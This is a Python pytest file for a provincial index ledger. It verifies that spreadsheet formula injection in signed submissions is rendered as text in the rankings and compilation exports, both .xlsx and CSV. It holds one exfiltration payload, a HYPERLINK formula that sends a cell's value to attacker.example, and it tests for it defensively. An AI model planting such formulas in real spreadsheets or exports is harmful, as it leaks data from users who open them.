"""Formula injection: text a signer put in the ledger comes out of every export as text.

The demo province, loaded through the real `Ledger`, gets one more signed statement: Sở Nội
vụ publishes PAPI_UNIT 2024 (the demo never does) under a decision number that is a live
formula in a spreadsheet, with a band that is one too. The ledger accepts it (it is what was
signed); the rankings and the compilation, as .xlsx and as CSV, must show it as text.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any

import openpyxl
import pytest

from demo.loader import load_demo
from demo.province import LEAD_OFFICER, demo_author, result_rows
from ledger.application import Ledger
from ledger.storage.config import persistence_env
from ledger.storage.documents import DocumentStore
from projections import Views, catch_up, open_views
from services.exports import export_compilation, export_rankings

DECISION = '=HYPERLINK("http://attacker.example/?d="&D6,"Xem")'
BAND = "=1+2"


@dataclass(frozen=True)
class Hostile:
    ledger: Ledger
    views: Views


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
    """The demo on SQLite, then PAPI_UNIT 2024 published with a formula as its decision and bands."""
    root = tmp_path_factory.mktemp("hostile-demo")
    documents = DocumentStore(root / "documents")
    ledger = Ledger(env=persistence_env(f"sqlite:///{root / 'ledger.sqlite3'}"), documents=documents)
    load_demo(ledger, documents)
    rows = [{**row, "band": BAND} for row in result_rows("PAPI_UNIT", 2023)]
    envelope = demo_author(LEAD_OFFICER["SNV"]).sign(
        "submission.index-results",
        "submission/index-results/PAPI_UNIT/2024",
        {"measured_year": 2024, "decision": DECISION, "published_on": "2024-12-20", "results": rows},
    )
    ledger.append(envelope, recorded_at=datetime(2024, 12, 20, 2, 0, tzinfo=UTC))
    views = open_views(ledger)
    catch_up(ledger, views, batch=100)
    yield Hostile(ledger, views)
    views.close()
    ledger.close()


def workbook_cells(data: bytes) -> list[Any]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_the_ledger_holds_the_hostile_decision_as_signed(hostile: Hostile) -> None:
    rows = hostile.views.index_results("PAPI_UNIT", 2024, None)

    assert rows
    assert {row["decision"] for row in rows} == {DECISION}
    assert {row["band"] for row in rows} == {BAND}


def test_the_rankings_workbook_writes_the_hostile_decision_and_bands_as_string_cells(hostile: Hostile) -> None:
    report = export_rankings(hostile.ledger, hostile.views, "PAPI_UNIT", 2024, None, "xlsx")

    cells = workbook_cells(report.data)
    assert [cell.data_type for cell in cells if cell.value == DECISION] == ["s"] * report.rows
    assert [cell.data_type for cell in cells if cell.value == BAND] == ["s"] * report.rows
    assert not [cell for cell in cells if cell.data_type == "f"]


def test_the_rankings_csv_escapes_the_hostile_decision_and_bands_with_a_quote(hostile: Hostile) -> None:
    report = export_rankings(hostile.ledger, hostile.views, "PAPI_UNIT", 2024, None, "csv")

    heading, *rows = csv.reader(io.StringIO(report.data.decode("utf-8-sig")))
    records = [dict(zip(heading, row, strict=True)) for row in rows]
    assert len(records) == report.rows
    assert {record["Quyết định công bố"] for record in records} == {"'" + DECISION}
    assert {record["Xếp loại chỉ số"] for record in records} == {"'" + BAND}
    assert all(not record["Điểm"].startswith("'") for record in records)  # scores stay numbers


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_compilation_of_the_year_holds_no_formula_either(hostile: Hostile, fmt: str) -> None:
    report = export_compilation(hostile.ledger, hostile.views, 2024, fmt)

    assert report.rows
    if fmt == "xlsx":
        assert not [cell for cell in workbook_cells(report.data) if cell.data_type == "f"]
    else:
        cells = [cell for row in csv.reader(io.StringIO(report.data.decode("utf-8-sig"))) for cell in row]
        assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
